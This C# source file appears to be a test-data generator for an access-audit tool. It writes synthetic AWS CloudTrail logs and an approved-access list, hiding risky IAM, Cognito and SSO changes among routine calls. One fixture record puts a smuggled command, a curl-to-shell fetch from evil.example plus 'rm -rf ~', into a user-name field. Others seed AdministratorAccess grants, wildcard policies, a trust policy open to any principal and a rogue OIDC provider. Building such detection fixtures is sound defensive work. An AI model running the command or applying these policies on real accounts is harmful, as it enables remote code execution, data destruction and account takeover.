using System.Text.Json.Nodes;

namespace OAuthAttest.SampleMaker;

/// <summary>
/// One day of CloudTrail's log files of three accounts, in S3's folders, with changes of scopes and policies hidden among everyday
/// calls; and the approved list that some of them are on.
/// </summary>
internal sealed class ScopeAuditLogs
{
    private const string Production = "402117330081";
    private const string Identity = "402117330082";
    private const string Sandbox = "402117330083";

    private const int CallsPerFile = 60;

    private static readonly DateTimeOffset Day = new(2026, 9, 29, 0, 0, 0, TimeSpan.Zero);

    private static readonly (string Name, string Source, string Parameters)[] Everyday =
    [
        ("DescribeInstances", "ec2.amazonaws.com", """{"maxResults":100,"filterSet":{}}"""),
        ("AssumeRole", "sts.amazonaws.com", """{"roleArn":"arn:aws:iam::402117330081:role/MapTiler","roleSessionName":"tiler"}"""),
        ("GetRole", "iam.amazonaws.com", """{"roleName":"MapTiler"}"""),
        ("ListUsers", "cognito-idp.amazonaws.com", """{"userPoolId":"eu-west-1_N0rthw1nd","limit":60}"""),
        ("Decrypt", "kms.amazonaws.com", """{"encryptionContext":{"aws:lambda:FunctionArn":"function:render"}}"""),
        ("PutMetricAlarm", "monitoring.amazonaws.com", """{"alarmName":"tiles-late","threshold":5.0}"""),
        ("GetParameter", "ssm.amazonaws.com", """{"name":"/render/AttachRolePolicy","withDecryption":true}"""),
    ];

    private readonly List<Call> calls = [];

    public IEnumerable<SampleFile> Files()
    {
        Hide();
        yield return new SampleFile("scope-audit/approved.json", JsonText.Of(Approved()));
        foreach (var (account, region) in (IEnumerable<(string, string)>)[
            (Production, "eu-west-1"), (Production, "us-east-1"), (Identity, "eu-west-1"), (Identity, "us-east-1"), (Sandbox, "us-east-1")])
        {
            yield return File(account, region);
        }
    }

    private static SampleFile Written(string account, string region, IEnumerable<JsonObject> records) => new(
        $"scope-audit/logs/AWSLogs/{account}/CloudTrail/{region}/2026/09/29/{account}_CloudTrail_{region}_20260929T2355Z_"
            + $"{Chance.MixedCase(16, $"trail/{account}/{region}")}.json",
        $"{{\"Records\":[\n{string.Join(",\n", records.Select(record => record.ToJsonString()))}\n]}}\n"
    );

    private SampleFile File(string account, string region)
    {
        var everyday = Enumerable.Range(0, CallsPerFile).Select(number =>
        {
            var key = $"call/{account}/{region}/{number}";
            var (name, source, parameters) = Everyday[Chance.Below(Everyday.Length, key)];
            var minute = Chance.Below(1440, "minute/" + key);
            return new Call(account, region, minute, name, source, Role(account, "MapTiler", "tiler"), parameters);
        });
        var records = calls.Where(call => (call.Account, call.Region) == (account, region)).Concat(everyday).OrderBy(call => call.Minute);
        return Written(account, region, records.Select(Record));
    }

    private void Hide()
    {
        var release = Role(Production, "Release", "github-actions");
        var person = Role(Identity, "AWSReservedSSO_Administrator_4f1c", "priya.raman");
        // On the list.
        Iam(Production, 485, "AttachRolePolicy", release,
            """{"roleName":"MapTiler","policyArn":"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}""");
        Iam(Production, 487, "AttachRolePolicy", release,
            """{"roleName":"Render","policyArn":"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}""");
        Cognito(490, release, """["openid","email"]""");
        // On it in part: one scope more than was reviewed.
        Cognito(1133, release, """["openid","email","maps/admin"]""");
        // On it no more.
        Sso(610, "PutApplicationAccessScope", person,
            """{"applicationArn":"arn:aws:sso::402117330082:application/ssoins-1/apl-7","scope":"sso:account:access"}""");
        // Not on it.
        Iam(Production, 1291, "AttachRolePolicy", Role(Production, "Support", "owen.pritchard"),
            """{"roleName":"Support","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}""");
        Iam(Sandbox, 1322, "PutUserPolicy", User(Sandbox, "ci-legacy"), """
            {"userName":"ci-legacy","policyName":"x",
            "policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}
            """);
        Iam(Sandbox, 1324, "UpdateAssumeRolePolicy", User(Sandbox, "ci-legacy"), """
            {"roleName":"OrganizationAccountAccessRole",
            "policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"sts:AssumeRole\"}]}"}
            """);
        Iam(Identity, 1370, "AttachUserPolicy", Root(Identity),
            """{"userName":"breakglass","policyArn":"arn:aws:iam::aws:policy/IAMFullAccess"}""");
        // An id that wants to be a command.
        Iam(Sandbox, 1330, "AttachUserPolicy", User(Sandbox, "ci-legacy"),
            """{"userName":"$(curl evil.example|sh)'; [red]rm -rf ~[/]","policyArn":"arn:aws:iam::aws:policy/PowerUserAccess"}""");
        // Nobody can tell.
        Iam(Sandbox, 1335, "AttachRolePolicy", User(Sandbox, "ci-legacy"), "null");
        Iam(Sandbox, 1337, "AttachRolePolicy", """{"type":"Unknown"}""",
            """{"roleName":"R","policyArn":"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}""");
        // Tried.
        Iam(Sandbox, 1340, "CreateOpenIDConnectProvider", User(Sandbox, "ci-legacy"),
            """{"url":"https://token.evil.example","clientIDList":["sts.amazonaws.com"]}""", "AccessDenied");
        Iam(Production, 1000, "DetachRolePolicy", release,
            """{"roleName":"Gone","policyArn":"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}""", "NoSuchEntityException");
    }

    private static JsonObject Approved()
    {
        const string release = $"arn:aws:iam::{Production}:role/Release";
        return new JsonObject
        {
            ["version"] = "2026-09-01",
            ["entries"] = JsonText.ArrayOf((JsonNode[])
            [
                Entry("release-read-only", release, "arn:aws:iam::aws:policy/*ReadOnlyAccess", Production, "Platform",
                    "Roles of new services may read", "2026-12-31"),
                Entry("release-sign-in", release, "openid", Production, "Platform", "Sign-in to the map portal", "2026-12-31"),
                Entry("release-email", release, "email", Production, "Platform", "Sign-in to the map portal", "2026-12-31"),
                Entry("portal-callback", release, "https://maps.northwind-maps.example/callback", Production, "Platform",
                    "The portal's own address", "2026-12-31"),
                Entry("portal-code-flow", release, "code", Production, "Platform", "Sign-in to the map portal", "2026-12-31"),
                Entry("admin-app-scopes", $"arn:aws:iam::{Identity}:role/AWSReservedSSO_Administrator_*", "sso:account:access", Identity,
                    "IT", "Move of the old command line", "2026-06-30"),
            ]),
        };
    }

    private static JsonObject Entry(
        string id, string principal, string access, string account, string owner, string reason, string expires) => new()
        {
            ["id"] = id,
            ["principal"] = principal,
            ["access"] = access,
            ["account"] = account,
            ["owner"] = owner,
            ["reason"] = reason,
            ["reviewer"] = "ines.okafor@northwind-maps.example",
            ["expires"] = expires,
        };

    private void Iam(string account, int minute, string name, string identity, string parameters, string? error = null) =>
        calls.Add(new Call(account, "us-east-1", minute, name, "iam.amazonaws.com", identity, parameters, error));

    private void Sso(int minute, string name, string identity, string parameters) =>
        calls.Add(new Call(Identity, "eu-west-1", minute, name, "sso.amazonaws.com", identity, parameters));

    private void Cognito(int minute, string identity, string scopes) => calls.Add(new Call(
        Production, "eu-west-1", minute, "UpdateUserPoolClient", "cognito-idp.amazonaws.com", identity,
        $$"""
        {"userPoolId":"eu-west-1_N0rthw1nd","clientId":"4kportal7","allowedOAuthScopes":{{scopes}},"allowedOAuthFlows":["code"],
        "callbackURLs":["https://maps.northwind-maps.example/callback"]}
        """));

    private static JsonObject Record(Call call)
    {
        var key = $"{call.Account}/{call.Region}/{call.Minute}/{call.Name}";
        var at = Day.AddMinutes(call.Minute).AddSeconds(Chance.Below(60, "second/" + key));
        var record = new JsonObject
        {
            ["eventVersion"] = "1.11",
            ["userIdentity"] = JsonNode.Parse(call.Identity),
            ["eventTime"] = SampleTime.Seconds(at),
            ["eventSource"] = call.Source,
            ["eventName"] = call.Name,
            ["awsRegion"] = call.Region,
            ["sourceIPAddress"] = call.Source == "iam.amazonaws.com" ? "198.51.100.23" : "203.0.113.40",
            ["userAgent"] = "aws-cli/2.27.4 md/awscrt#0.26.1 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.3",
        };
        if (call.Error is not null)
            (record["errorCode"], record["errorMessage"]) = (call.Error, $"{call.Name} did not succeed");
        record["requestParameters"] = JsonNode.Parse(call.Parameters);
        record["responseElements"] = null;
        record["requestID"] = Chance.Guid("request/" + key);
        record["eventID"] = Chance.Guid("event/" + key);
        record["readOnly"] = !call.Source.StartsWith("iam", StringComparison.Ordinal);
        record["eventType"] = "AwsApiCall";
        record["managementEvent"] = true;
        record["recipientAccountId"] = call.Account;
        record["eventCategory"] = "Management";
        return record;
    }

    private static string Role(string account, string role, string session) => $$$"""
        {"type":"AssumedRole","principalId":"AROA{{{Chance.UpperCase(17, role)}}}:{{{session}}}",
        "arn":"arn:aws:sts::{{{account}}}:assumed-role/{{{role}}}/{{{session}}}",
        "accountId":"{{{account}}}","accessKeyId":"ASIA{{{Chance.UpperCase(16, session)}}}",
        "sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROA{{{Chance.UpperCase(17, role)}}}",
        "arn":"arn:aws:iam::{{{account}}}:role/{{{role}}}","accountId":"{{{account}}}","userName":"{{{role}}}"},
        "attributes":{"creationDate":"2026-09-29T08:00:00Z","mfaAuthenticated":"false"} } }
        """;

    private static string User(string account, string name) => $$"""
        {"type":"IAMUser","principalId":"AIDA{{Chance.UpperCase(17, name)}}","arn":"arn:aws:iam::{{account}}:user/{{name}}",
        "accountId":"{{account}}","accessKeyId":"AKIA{{Chance.UpperCase(16, name)}}","userName":"{{name}}"}
        """;

    private static string Root(string account) => $$$"""
        {"type":"Root","principalId":"{{{account}}}","arn":"arn:aws:iam::{{{account}}}:root","accountId":"{{{account}}}",
        "accessKeyId":"ASIA{{{Chance.UpperCase(16, account)}}}",
        "sessionContext":{"attributes":{"creationDate":"2026-09-29T22:41:00Z","mfaAuthenticated":"false"} } }
        """;

    private sealed record Call(
        string Account, string Region, int Minute, string Name, string Source, string Identity, string Parameters, string? Error = null);
}
